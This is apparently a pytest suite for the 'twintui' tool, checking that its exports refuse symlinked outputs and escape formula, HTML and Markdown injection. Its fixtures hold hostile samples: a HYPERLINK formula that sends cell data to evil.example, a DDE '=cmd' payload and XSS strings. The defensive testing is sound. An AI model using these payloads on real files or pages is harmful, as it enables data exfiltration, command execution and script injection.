"""Outputs written anywhere: never through a link, never at a name someone could guess, never a live
formula or live Markdown made of the data's text (issue 15, items 4, 5, 6 and 11)."""

from __future__ import annotations

import dataclasses
import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import pytest

from twintui.cli import main
from twintui.core import demo
from twintui.core.compare import Comparison, records
from twintui.core.compare.demo import DEMO_NAME
from twintui.core.model import Arrangement
from twintui.core.store import Store

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A3,"Open the brief")'
HOSTILE_CANDIDATE = "=cmd|' /C calc'!A0"
HOSTILE_FACTOR = "=2+3"
MAIN_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("outputs") / "twintui.json"
    store = Store.open(path)
    demo.fill(store)
    hostile = Comparison.new(HOSTILE_NAME, organisation="@x", learning_gap="+SUM(1)",
                             candidates=[HOSTILE_CANDIDATE, "-1+1", "Sweden"])
    hostile.add_factor(HOSTILE_FACTOR)
    hostile.set_score(HOSTILE_FACTOR, HOSTILE_CANDIDATE, 4)
    hostile.set_score(HOSTILE_FACTOR, "Sweden", 2)
    hostile.set_note(HOSTILE_FACTOR, HOSTILE_CANDIDATE, "@SUM(A1:A9)")
    records.save(store, hostile)
    nor = store.require(Arrangement, "TW-NOR-0001")
    store.save(nor.replace(title="<script>alert(1)</script> Norway *loud* [x](http://evil.example)",
                           best_practices="# Not a heading\n<img src=x onerror=alert(2)>\n> not a quote",
                           lessons_learned="line one\n\n- not a list\n| not | a table |"), "test")
    from twintui.core.mou import versions

    memo = versions.latest(store, "TW-NOR-0001")
    sections = dataclasses.replace(memo.sections(), context="# Not a heading\n\n<img src=x onerror=alert(2)>\n\n"
                                   "- not a list", title="<b>bold</b> agreement")
    versions.save(store, memo, sections)
    return path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


# -- item 4: report's temporary file -------------------------------------------------------------

@pytest.mark.parametrize("suffix", ["md", "html", "xlsx"])
def test_report_never_writes_through_a_planted_temporary_name(db: Path, tmp_path: Path, suffix: str,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("the user's own file\n")
    target = tmp_path / f"report.{suffix}"
    # The name main used: .{name}.{pid}.tmp, planted for this very process.
    (tmp_path / f".{target.name}.{os.getpid()}.tmp").symlink_to(victim)
    code, out, err = run(capsys, "report", "-o", str(target), "--db", str(db))
    assert code == 0, err
    assert victim.read_text() == "the user's own file\n"
    assert target.is_file() and not target.is_symlink() and target.stat().st_size > 1000
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [victim.name, target.name, f".{target.name}.{os.getpid()}.tmp"])  # no other temporary file left


# -- item 6: every output refuses to write through a link ------------------------------------------

OUTPUTS: dict[str, Callable[[Path, Path], list[str]]] = {
    "compare export": lambda db, out: ["compare", "export", DEMO_NAME, "-o", str(out), "--db", str(db)],
    "report": lambda db, out: ["report", "-o", str(out), "--db", str(db)],
    "export": lambda db, out: ["export", "--state", "NOR", "--quarter", "2026-Q2", "-o", str(out), "--db", str(db)],
    "export --all": lambda db, out: ["export", "--all", "-o", str(out), "--db", str(db)],
    "template": lambda db, out: ["template", "-o", str(out)],
    "mou render": lambda db, out: ["mou", "render", "TW-NOR-0001", "--format", "docx", "-o", str(out), "--db",
                                   str(db)],
}


@pytest.mark.parametrize("command", OUTPUTS)
def test_an_output_named_by_a_link_is_refused_and_the_links_target_untouched(
        db: Path, tmp_path: Path, command: str, capsys: pytest.CaptureFixture[str]) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("the user's own file\n")
    suffix = ".docx" if command == "mou render" else ".xlsx"
    link = tmp_path / f"out{suffix}"
    link.symlink_to(victim)
    before = db.read_bytes()
    code, out, err = run(capsys, *OUTPUTS[command](db, link))
    assert code == 2, (out, err)
    assert err.count("\n") == 1 and str(link) in err and "symbolic link" in err and "Traceback" not in err, err
    assert victim.read_text() == "the user's own file\n" and link.is_symlink()
    assert db.read_bytes() == before  # an export that was not written is not recorded as sent
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


@pytest.mark.parametrize("command", ["compare export", "report", "export", "mou render"])
def test_an_output_keeps_the_users_usual_mode_and_replaces_a_file(db: Path, tmp_path: Path, command: str,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    suffix = ".docx" if command == "mou render" else ".xlsx"
    target = tmp_path / f"out{suffix}"
    target.write_text("old")
    old = os.umask(0o027)
    try:
        code, _, err = run(capsys, *OUTPUTS[command](db, target))
    finally:
        os.umask(old)
    assert code == 0, err
    assert target.read_bytes()[:2] == b"PK" and target.stat().st_mode & 0o777 == 0o640


# -- item 5: compare export keeps the data's text as text --------------------------------------------

def _cells(book: Path) -> dict[str, dict[str, tuple[str | None, bool, bool]]]:
    """sheet → cell → (text, is a formula, has the quote prefix), read from the workbook's XML."""
    with zipfile.ZipFile(book) as archive:
        strings = [''.join(t.text or "" for t in si.iter(f"{{{MAIN_NS['m']}}}t"))
                   for si in ElementTree.fromstring(archive.read("xl/sharedStrings.xml")).findall("m:si", MAIN_NS)] \
            if "xl/sharedStrings.xml" in archive.namelist() else []
        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
        quoted = [xf.get("quotePrefix") == "1" for xf in styles.find("m:cellXfs", MAIN_NS).findall("m:xf", MAIN_NS)]
        workbook = ElementTree.fromstring(archive.read("xl/workbook.xml"))
        rels = ElementTree.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
        targets = {r.get("Id"): r.get("Target") for r in rels}
        out = {}
        for sheet in workbook.find("m:sheets", MAIN_NS):
            rid = sheet.get("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id")
            xml = ElementTree.fromstring(archive.read("xl/" + targets[rid].lstrip("/").removeprefix("xl/")))
            cells = {}
            for c in xml.iter(f"{{{MAIN_NS['m']}}}c"):
                formula = c.find("m:f", MAIN_NS)
                value = c.find("m:v", MAIN_NS)
                inline = c.find("m:is", MAIN_NS)
                if formula is not None:
                    text = "=" + (formula.text or "")
                elif c.get("t") == "s":
                    text = strings[int(value.text)]
                elif c.get("t") == "inlineStr":
                    text = "".join(t.text or "" for t in inline.iter(f"{{{MAIN_NS['m']}}}t"))
                else:
                    text = value.text if value is not None else None
                cells[c.get("r")] = (text, formula is not None, quoted[int(c.get("s", "0"))])
            out[sheet.get("name")] = cells
        return out


def test_compare_export_writes_the_datas_text_as_text_and_keeps_the_totals_live(
        db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    book = tmp_path / "hostile.xlsx"
    code, _, err = run(capsys, "compare", "export", HOSTILE_NAME, "-o", str(book), "--db", str(db))
    assert code == 0, err
    cells = _cells(book)
    hostile = {HOSTILE_NAME, HOSTILE_CANDIDATE, HOSTILE_FACTOR, "-1+1", "@SUM(A1:A9)"}
    seen: dict[str, list[str]] = {}
    for sheet, found in cells.items():
        for ref, (text, formula, quoted) in found.items():
            if text in hostile or (formula and any(h.lstrip("=") in (text or "") for h in hostile)):
                seen.setdefault(text or "", []).append(f"{sheet}!{ref}")
                assert not formula, f"{sheet}!{ref} is a live formula: {text}"
                assert quoted, f"{sheet}!{ref} ({text}) lacks the quote prefix"
    assert set(seen) == hostile, seen  # every hostile text is in the workbook, as text
    assert len(seen[HOSTILE_CANDIDATE]) >= 3  # Matrix header, Notes, Sensitivity
    matrix = cells["Matrix"]
    live = [ref for ref, (text, formula, _) in matrix.items() if formula]
    assert live and all(re.fullmatch(r"[D-F]\d+", ref) for ref in live), live  # the totals, per candidate
    assert any("SUMPRODUCT" in matrix[ref][0] for ref in live)


# -- item 11: Markdown outputs escape the data -----------------------------------------------------

def _rendered(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").render(markdown)


@pytest.mark.parametrize("command", ["report", "mou render"])
def test_markdown_outputs_show_the_datas_html_and_markdown_as_text(db: Path, tmp_path: Path, command: str,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "out.md"
    argv = (["report", "-o", str(target)] if command == "report" else
            ["mou", "render", "TW-NOR-0001", "-o", str(target)])
    code, _, err = run(capsys, *argv, "--db", str(db))
    assert code == 0, err
    html = _rendered(target.read_text())
    assert "<script" not in html and "<img" not in html and 'href="http://evil.example"' not in html, html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, as text
    assert "<em>loud</em>" not in html and "*loud*" in html
    assert "<h1>Not a heading" not in html and "# Not a heading" in html
    assert "&lt;img src=x onerror=alert(2)&gt;" in html
    assert "<li>not a list" not in html and "- not a list" in html
    if command == "report":
        assert "<blockquote>" not in html
    else:
        assert "<b>bold</b>" not in html and "&lt;b&gt;bold&lt;/b&gt; agreement" in html
